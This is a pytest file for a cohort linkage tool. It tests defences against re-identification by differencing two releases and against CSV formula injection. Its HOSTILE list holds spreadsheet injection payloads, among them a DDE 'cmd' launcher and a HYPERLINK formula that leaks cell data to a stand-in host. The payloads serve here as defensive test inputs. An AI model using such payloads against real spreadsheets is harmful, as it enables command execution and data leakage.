"""Differencing between releases: the cohort end moved by one day adds one person.

Without the release register the two releases can be subtracted (the attack the issue describes);
with it the second release is refused and nothing is written. Formula-injection and free-text values
in a payload never reach a CSV.
"""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from threadpoolctl import threadpool_limits

from linkage.cohort import build_cohort
from linkage.cohort.config import load_cohort_config
from linkage.cohort.intruder import ReleaseRefused, attack_pair
from linkage.cohort.tables import WITHHELD
from linkage.errors import LinkageInputError
from tests.test_disclosure_release import generate

REPO = Path(__file__).resolve().parents[1]
COUNTS = ["people", "linked", "people_with_factor", "denominator", "previously_victimised"]


def config(root: Path, name: str, **cohort) -> Path:
    cfg = yaml.safe_load((REPO / "configs/cohorts/high_harm.yaml").read_text())
    cfg["offences"], cfg["risk_factors"] = str(REPO / "configs/offences.yaml"), str(REPO / "configs/risk_factors.yaml")
    cfg.update(cohort)
    path = root / f"{name}.yaml"
    path.write_text(yaml.safe_dump(cfg, default_flow_style=False))
    return path


def released_counts(release) -> dict[tuple, int]:
    out = {}
    for table, rows in release.tables.items():
        for i, row in enumerate(rows):
            for col in COUNTS:
                if col in row and isinstance(row[col], int) and row[col] is not WITHHELD:
                    out[(table, i, col)] = row[col]
    return out


@pytest.fixture(scope="module")
def two_ends(tmp_path_factory):
    root = tmp_path_factory.mktemp("differencing")
    link, dirs, _ = generate(root, n_people=250, seed=11)
    full = build_cohort(config(root, "full"), link, dirs, root / "full", quiet=True, keep_persons=True)
    days = full["persons"]["index_day"]
    last = days.max()
    assert (days == last).sum() == 1  # exactly one person's index offence is on the last day
    day_before = (pd.Timestamp(last) - pd.Timedelta(days=1)).date()
    return root, link, dirs, day_before, pd.Timestamp(last).date()


def test_one_day_apart_releases_difference_into_one_person_without_the_register(two_ends):
    root, link, dirs, d0, d1 = two_ends
    a = build_cohort(config(root, "a", end=d0), link, dirs, root / "a", quiet=True, keep_persons=True)
    b = build_cohort(config(root, "b", end=d1), link, dirs, root / "b", quiet=True, keep_persons=True)
    ids_a, ids_b = set(a["persons"]["person_id"]), set(b["persons"]["person_id"])
    assert len(ids_a ^ ids_b) == 1  # the attack's premise: the releases differ by one person
    ca, cb = released_counts(a["release"]), released_counts(b["release"])
    moved = [k for k in ca.keys() & cb.keys() if ca[k] != cb[k]]
    # An intruder who knows one person was added learns that person is in every count that moved.
    assert moved, "the unregistered releases could not be told apart (attack premise failed)"
    # The joint integer-programming intruder (what the register runs for releases it lets through) pins
    # the added person's differences too: without the 1-9 rule this pair would still be refused.
    drift = {}
    pa_, pb_ = a["persons"], b["persons"]
    for g in ["all", *pa_["subgroup"].unique()]:
        ma = set(pa_["person_id"] if g == "all" else pa_.loc[pa_["subgroup"] == g, "person_id"])
        mb = set(pb_["person_id"] if g == "all" else pb_.loc[pb_["subgroup"] == g, "person_id"])
        drift[f"people|{g}"] = len(ma ^ mb)
    for dim in ("ethnic_group", "area", "age_band"):
        for cat in set(pa_[dim]) | set(pb_[dim]):
            drift[f"char|{dim}|{cat}"] = len(set(pa_.loc[pa_[dim] == cat, "person_id"])
                                             ^ set(pb_.loc[pb_[dim] == cat, "person_id"]))
    settings = load_cohort_config(config(root, "b", end=d1)).cohort.disclosure
    view = {r: {"tables": x["release"].tables, "truth": x["release"].truth, "facts": x["release"].facts,
                "settings": settings} for r, x in (("a", a), ("b", b))}
    with threadpool_limits(1):
        joint = attack_pair(view["b"], view["a"], settings, drift, WITHHELD)
    assert not joint.passed
    assert any(t.kind == "difference" and abs(t.truth) == 1 for t in joint.failures)


def test_release_register_refuses_the_second_release_and_writes_nothing(two_ends):
    from typer.testing import CliRunner

    from linkage.cli import app

    root, link, dirs, d0, d1 = two_ends
    reg = root / "vrn" / "register.json"
    build_cohort(config(root, "ra", end=d0), link, dirs, root / "ra", quiet=True, register=reg)
    assert json.loads(reg.read_text())["releases"]
    bad = CliRunner().invoke(app, ["cohort", "--quiet", "--link", str(link), "--register", str(reg),
                                   "--config", str(config(root, "rb", end=d1)), "--out", str(root / "rb"),
                                   *map(str, dirs)])
    assert bad.exit_code == ReleaseRefused.exit_code, bad.output
    assert len(bad.output.strip().splitlines()) == 1
    assert "release refused" in bad.output and "differs from the one in release" in bad.output
    assert not (root / "rb").exists()
    assert len(json.loads(reg.read_text())["releases"]) == 1
    # the same release again (no one added) is allowed: it says nothing new
    build_cohort(config(root, "ra2", end=d0), link, dirs, root / "ra2", quiet=True, register=reg)
    assert len(json.loads(reg.read_text())["releases"]) == 2
    assert "person-" not in reg.read_text()  # fingerprints only, never the VRN's person ids


def test_a_register_that_cannot_be_saved_leaves_no_release_behind(two_ends, monkeypatch):
    """The release is registered before its folder is committed: no release the register does not know."""
    from linkage.cohort.register import ReleaseRegister

    root, link, dirs, d0, _ = two_ends

    def fail(self):
        raise OSError("disk full")

    monkeypatch.setattr(ReleaseRegister, "_save", fail)
    with pytest.raises(OSError):
        build_cohort(config(root, "rc", end=d0), link, dirs, root / "rc", quiet=True,
                     register=root / "vrn2" / "register.json")
    assert not (root / "rc").exists()


HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
           "Somewhere free text"]


def test_formula_and_free_text_area_values_never_reach_a_csv(tmp_path):
    link, dirs, _ = generate(tmp_path, n_people=160, seed=7)
    path = dirs[0] / "payload.parquet"
    police = pq.read_table(path).to_pandas()
    police["npa"] = police["npa"].astype("string")
    for i, value in enumerate(HOSTILE):  # each hostile value on a share of the police rows
        police.loc[police.index % (len(HOSTILE) + 1) == i, "npa"] = value
    pq.write_table(pa.Table.from_pandas(police, preserve_index=False), path)
    build_cohort(config(tmp_path, "c"), link, dirs, tmp_path / "out", quiet=True)
    for path in (tmp_path / "out").glob("*.csv"):
        text = path.read_text(encoding="utf-8")
        for value in HOSTILE:
            assert value not in text, path.name
        for line in text.splitlines()[1:]:
            for cell in line.split(","):
                assert not cell.startswith(("=", "+", "@", "-")), (path.name, cell)
    chars = pd.read_csv(tmp_path / "out" / "coverage_by_characteristic.csv", dtype=str)
    assert "Other area" in set(chars.loc[chars["characteristic"] == "area", "category"])


def test_text_cells_are_escaped_for_spreadsheets():
    from linkage.cohort.report import csv_frame

    frame = csv_frame([{"label": v, "n": 10} for v in HOSTILE], "c")
    assert all(not str(v).startswith(("=", "+", "@", "-")) for v in frame["label"])
    assert frame.loc[4, "label"] == "Somewhere free text" and frame.loc[0, "label"].startswith("'=")


def test_a_source_name_outside_the_config_code_lists_is_refused(tmp_path):
    link, dirs, _ = generate(tmp_path, n_people=160, seed=7)
    hostile = "=HYPERLINK(1)"
    (dirs[2] / "manifest.json").write_text(json.dumps({"source": hostile}))
    cw = pd.read_parquet(link / "crosswalk.parquet")
    cw.loc[cw["source"] == "social_care", "source"] = hostile
    cw.to_parquet(link / "crosswalk.parquet")
    with pytest.raises(LinkageInputError, match="not in the config's code list") as err:
        build_cohort(config(tmp_path, "c"), link, dirs, tmp_path / "out", quiet=True)
    assert hostile not in str(err.value)
    assert not (tmp_path / "out").exists()

